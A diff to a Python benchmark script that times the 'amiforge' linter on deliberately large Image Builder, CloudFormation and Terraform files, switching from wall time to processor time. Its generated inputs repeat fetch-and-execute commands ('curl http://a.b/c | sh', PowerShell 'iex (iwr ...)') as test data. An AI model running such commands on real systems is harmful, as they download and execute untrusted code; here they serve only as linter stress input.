@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Time and peak memory of amiforge on files that were made to cost as much as possible: benches/hostile.py BINARY [WORD…].
+"""Processor time and peak memory of amiforge on files that were made to cost as much as possible: benches/hostile.py BINARY [WORD…].
 
 Prints two Markdown tables, for `amiforge validate` and for `amiforge pins`, the quicker of two runs each; words behind BINARY
 choose the files whose names hold one of them. The aim: below a second and 100 MB for 4 MiB, whatever the file holds.
@@ -10,7 +10,6 @@ import pathlib
 import subprocess
 import sys
 import tempfile
-import time
 
 HEAD = """name: good
 schemaVersion: 1.0
@@ -80,18 +79,18 @@ def template():
 def terraform():
     unit = 'resource "aws_imagebuilder_component" "c{n}" {\n  name = "c{n}"\n  platform = "Linux"\n  version = "1.0.0"\n'
     unit += "  data = <<-EOT\n    schemaVersion: 1.0\n" + indented(DOCUMENT, 4) + "  EOT\n}\n"
-    return filled("", lambda n: unit.replace("{n}", str(n)), LIMIT - 1_000)
+    return filled("", lambda n: unit.replace("{n}", str(n)), 200_000)
 
 
 def encoded():
     step = '{{name = "S{n}", action = "ExecuteBsh", inputs = {{commands = ["echo ${{var.a}} ok"]}}}},\n'
     head = 'resource "aws_imagebuilder_component" "c" {\n  name = "c"\n  platform = "Linux"\n  version = "1.0.0"\n'
     head += '  data = yamlencode({schemaVersion = 1.0, phases = [{name = "build", steps = [\n'
-    return filled(head, lambda n: step.format(n=n), 1_000_000) + "]}]})\n}\n"
+    return filled(head, lambda n: step.format(n=n), 190_000) + "]}]})\n}\n"
 
 
-def misspelled(size=LIMIT):
-    """Steps that each have a finding with a fix."""
+def misspelled(size=1_400_000):
+    """Steps that each have a finding with a fix, nearly as many values as are judged."""
     head = "name: good\nschemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n"
     step = "      - {{name: S{n}, action: ExecuteBsh, inputs: {{commands: [echo]}}}}\n"
     return filled(head, lambda n: step.format(n=n), size)
@@ -130,24 +129,25 @@ CASES = {
         "ExecutePowerShell", again("powershell -Command \"& { iex (iwr 'https://a.b/c') }\"\n")
     ),
     "PowerShell, 256 KB of one pipe": script("ExecutePowerShell", again("Get-Item $a | ")),
-    "4 MiB of scripts in steps": lambda: filled(
-        HEAD, lambda n: f"      - name: S{n}\n        action: ExecuteBash\n        inputs:\n          commands: ['curl http://a.b/c | sh']\n"
+    "2 MB of scripts in steps": lambda: filled(
+        HEAD,
+        lambda n: f"      - name: S{n}\n        action: ExecuteBash\n        inputs:\n          commands: ['curl http://a.b/c | sh']\n",
+        2_000_000,
     ),
 }
 
-# In other files, and with other options: the file, its text, the arguments.
+# In other files, and with other options: the file, its text, the arguments. Terraform with more than 10,000 assignments is not read.
 OTHERS = {
     "4 MiB of a CloudFormation template with components": ("a.yaml", template, ["validate", "--format=json"]),
-    "4 MiB of Terraform with components": ("a.tf", terraform, ["validate", "--format=json"]),
-    "1 MB of `yamlencode`": ("a.tf", encoded, ["validate", "--format=json"]),
-    "4 MiB of misspelled actions": ("a.yaml", misspelled, ["validate", "--format=json"]),
+    "200 KB of Terraform with components": ("a.tf", terraform, ["validate", "--format=json"]),
+    "190 KB of `yamlencode`": ("a.tf", encoded, ["validate", "--format=json"]),
+    "1.4 MB of misspelled actions": ("a.yaml", misspelled, ["validate", "--format=json"]),
     "the same, `--unsafe-fixes --diff`": ("a.yaml", misspelled, ["validate", "--unsafe-fixes", "--diff"]),
     "the same, `--unsafe-fixes`": ("a.yaml", misspelled, ["validate", "--unsafe-fixes"]),
     "the same as SARIF": ("a.yaml", misspelled, ["validate", "--format=sarif"]),
     "the same as GitLab code quality": ("a.yaml", misspelled, ["validate", "--format=gitlab"]),
     "the same as JUnit": ("a.yaml", misspelled, ["validate", "--format=junit"]),
     "the same as text": ("a.yaml", misspelled, ["validate"]),
-    "the same, `--write-baseline`": ("a.yaml", misspelled, ["validate", "--write-baseline", "b.json"]),
 }
 
 
@@ -212,13 +212,13 @@ PINS = {
 
 
 def once(binary, folder, arguments):
-    """Seconds and MB. The child is started by a shell: right behind a fork it would count as large as this process."""
-    start = time.perf_counter()
+    """Seconds of processor time, which other work beside it does not change, and MB. The child is started by a shell: right
+    behind a fork it would count as large as this process."""
     script = '"$@" >/dev/null 2>&1; exit $?'
     command = ["sh", "-c", script, "sh", binary, *arguments]
     child = subprocess.Popen(command, cwd=folder)
     _, status, usage = os.wait4(child.pid, 0)
-    took = time.perf_counter() - start
+    took = usage.ru_utime + usage.ru_stime
     if os.waitstatus_to_exitcode(status) not in (0, 1):
         sys.exit(f"ended with {os.waitstatus_to_exitcode(status)}")
     return took, usage.ru_maxrss / 1024
@@ -240,7 +240,7 @@ def row(binary, name, file, make, arguments):
 
 def main():
     binary = str(pathlib.Path(sys.argv[1]).resolve())
-    head = "| file | wall time | peak memory |\n| --- | ---: | ---: |"
+    head = "| file | time | peak memory |\n| --- | ---: | ---: |"
     print(head)
     for name, make in CASES.items():
         row(binary, name, "a.yaml", make, ["validate", "--format=json", "a.yaml"])
